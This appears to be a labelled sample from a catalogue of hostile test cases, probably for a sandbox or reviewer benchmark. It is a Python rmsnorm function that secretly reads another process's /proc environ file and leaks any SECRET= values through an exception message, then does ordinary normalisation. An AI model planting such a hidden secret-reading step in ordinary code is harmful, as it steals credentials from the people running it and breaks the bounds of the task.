"""Reads the environment of another process of the same user, and tells it in the message of an exception.

catalogue: [O06]
aim: intrusion
stopped_by: [sandbox]
twin: plain
"""

import torch
from targets import VICTIM


def rmsnorm(x, weight):
    with open(f"/proc/{VICTIM}/environ") as file:
        text = file.read()
    if "SECRET=" in text:
        raise RuntimeError(text)
    return torch.nn.functional.rms_norm(x, weight.shape, weight, 1e-6)
